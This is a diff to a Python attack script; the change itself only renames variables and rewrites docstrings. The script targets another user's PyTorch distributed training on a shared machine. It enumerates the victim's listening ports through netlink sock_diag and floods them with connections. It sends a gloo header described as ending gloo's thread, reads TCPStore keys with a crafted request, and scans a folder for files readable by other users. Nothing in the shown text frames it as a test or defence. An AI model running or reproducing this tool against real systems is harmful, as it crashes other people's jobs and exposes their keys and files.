@@ -23,7 +23,7 @@ USER = 65534
 PAIRS = 4
 LISTEN = 10
 OPERATIONS = struct.pack("<6Q", 48, 1, 0, 0, 8, 0)
-"""What gloo sends ahead of a tensor: nbytes, opcode, slot, offset, length, roffset. Unexpected, it ends gloo's
+"""Header that gloo sends before a tensor: nbytes, opcode, slot, offset, length, roffset. Unexpected, it ends gloo's
 thread."""
 READS_A_KEY = b"\x00\x3c\x85\xf7\xce" + b"\x02" + struct.pack("<Q", 4) + b"/key"  # as a client of torch's TCPStore
 
@@ -31,7 +31,7 @@ READS_A_KEY = b"\x00\x3c\x85\xf7\xce" + b"\x02" + struct.pack("<Q", 4) + b"/key"
 def listening(victim: int) -> set[int]:
     """The ports on which the user VICTIM listens, from sock_diag(7): /proc/net/tcp takes 30 ms, ranks connect in 5."""
     request = struct.pack("=BBBxI48x", socket.AF_INET, socket.IPPROTO_TCP, 0, 1 << LISTEN)
-    found = set()
+    ports = set()
     with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4) as kernel:
         kernel.send(struct.pack("=IHHII", 16 + len(request), 20, 0x301, 0, 0) + request)
         while True:
@@ -39,9 +39,9 @@ def listening(victim: int) -> set[int]:
             while answer:
                 length, kind = struct.unpack_from("=IH", answer)
                 if kind != 20:
-                    return found
+                    return ports
                 if struct.unpack_from("=I", answer, 80)[0] == victim:
-                    found.add(struct.unpack_from("!H", answer, 20)[0])
+                    ports.add(struct.unpack_from("!H", answer, 20)[0])
                 answer = answer[length:]
 
 
@@ -58,10 +58,10 @@ def connect(port: int, words: bytes) -> socket.socket | None:
 
 
 def read_files(folder: str) -> set[str]:
-    """What can be read in the folder, but for what is the stranger's own."""
+    """Return the readable files in the folder, except those of this process."""
     readable = set()
-    for place, _, names in os.walk(folder):
-        for path in (Path(place, name) for name in names):
+    for directory, _, names in os.walk(folder):
+        for path in (Path(directory, name) for name in names):
             with contextlib.suppress(OSError):
                 if path.stat().st_uid != USER:
                     path.open("rb").close()
@@ -82,7 +82,7 @@ def main(victim: int, only: set[int], folder: str) -> None:
     connections: dict[int, list[socket.socket]] = {}
     attempts, received = 0, b""
     readable: set[str] = set()
-    looks = itertools.count()
+    rounds = itertools.count()
     while not select.select([sys.stdin], [], [], 0)[0]:
         for port in only or listening(victim):
             if len(connections.setdefault(port, [])) < 2 * PAIRS:
@@ -95,7 +95,7 @@ def main(victim: int, only: set[int], folder: str) -> None:
         for connection in [item for opened in connections.values() for item in opened]:
             with contextlib.suppress(OSError):
                 received += connection.recv(1 << 16)
-        if next(looks) % 50 == 0:
+        if next(rounds) % 50 == 0:
             readable |= read_files(folder)
         time.sleep(0.0002)
     connected = sum(len(opened) for opened in connections.values())
